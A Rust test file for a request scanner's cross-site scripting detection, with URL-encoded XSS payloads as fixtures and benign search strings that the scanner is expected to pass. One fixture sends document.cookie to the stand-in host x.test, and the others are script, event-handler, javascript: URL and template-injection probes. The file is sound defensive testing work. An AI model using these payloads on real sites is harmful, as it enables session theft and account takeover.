//! Cross-site scripting fixtures.

use super::{check, check_agent, check_clean, check_value};

#[test]
fn flags_script_tags() {
    check_value(
        "%3Cscript%3Efetch(%27%2F%2Fx.test%2F%27%2Bdocument.cookie)%3C%2Fscript%3E",
        "xss query:v high: dangerous tag",
    );
}

#[test]
fn flags_event_handlers_in_tags() {
    check_value(
        "%22%3E%3Cimg%20src%3Dnope%20onerror%3Dprompt(8)%3E",
        "xss query:v high: event handler in tag",
    );
    check_value("%3Csvg%2Fonload%3Dalert(2)%3E", "xss query:v high: event handler in tag");
    check_value(
        "%3Cdetails%20open%20ontoggle%3Dalert(3)%3E",
        "xss query:v high: event handler in tag",
    );
}

#[test]
fn flags_attributes_injected_after_a_quote() {
    check_value("x%22%20onmouseover%3D%22alert(4)", "xss query:v high: event handler attribute");
}

#[test]
fn flags_script_urls() {
    check(
        "/out?next=javascript%3Aalert(document.domain)",
        &["xss query:next high: javascript: URL"],
    );
    check("/out?next=%20JaVa%09ScRiPt%3Aalert(5)", &["xss query:next high: javascript: URL"]);
    check_value(
        "data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg%3D%3D",
        "xss query:v high: data: URL with script",
    );
    check_value(
        "%3Ca%20href%3D%22javascript%3Avoid(0)%22%3Ex%3C%2Fa%3E",
        "xss query:v high: script URL in tag",
    );
}

#[test]
fn flags_entity_and_utf7_encoded_tags() {
    check_value(
        "%26lt%3Bscript%26gt%3Balert(7)%26lt%3B%2Fscript%26gt%3B",
        "xss query:v high: dangerous tag",
    );
    check_value(
        "%26%23x3c%3Biframe%20src%3D%2F%2Fx.test%26%23x3e%3B",
        "xss query:v high: dangerous tag",
    );
    check_value(
        "%2BADw-script%2BAD4-alert(8)%2BADw-%2Fscript%2BAD4-",
        "xss query:v high: UTF-7 encoded tag",
    );
}

#[test]
fn flags_template_injection() {
    check(
        "/p?v=%7B%7Bconstructor.constructor(%27alert(9)%27)()%7D%7D",
        &[
            "xss query:v high: template expression",
            "code_injection query:v high: Node.js code execution",
        ],
    );
    check_value("%7B%7B7*7%7D%7D", "xss query:v medium: template arithmetic probe");
}

#[test]
fn flags_sinks_and_tagged_templates() {
    check_value("%27-alert(10)-%27", "xss query:v high: JavaScript sink call");
    check_value("alert%6011%60", "xss query:v high: JavaScript sink call");
    check_value("%5B%5D.map.call%60%24%7Beval%7D%60", "xss query:v high: tagged template call");
}

#[test]
fn flags_payloads_in_user_agents() {
    check_agent("Mozilla/5.0 <script>alert(12)</script>", &["xss user_agent high: dangerous tag"]);
}

#[test]
fn leaves_markup_and_prose_alone() {
    check_clean(&[
        "/search?q=h2%3Ch1",
        "/search?q=I+%3C3+these+boots",
        "/review?text=see+%3Cb%3Ebold%3C%2Fb%3E+text",
        "/review?text=%3C%2Fa%3E",
        "/search?q=javascript%3A+the+good+parts",
        "/search?q=confirm+order",
        "/search?q=script+writing+kit",
        "/p?tpl=%7B%7Busername%7D%7D",
        "/search?q=onsale",
        "/p?filter=onsale%3D1",
    ]);
}
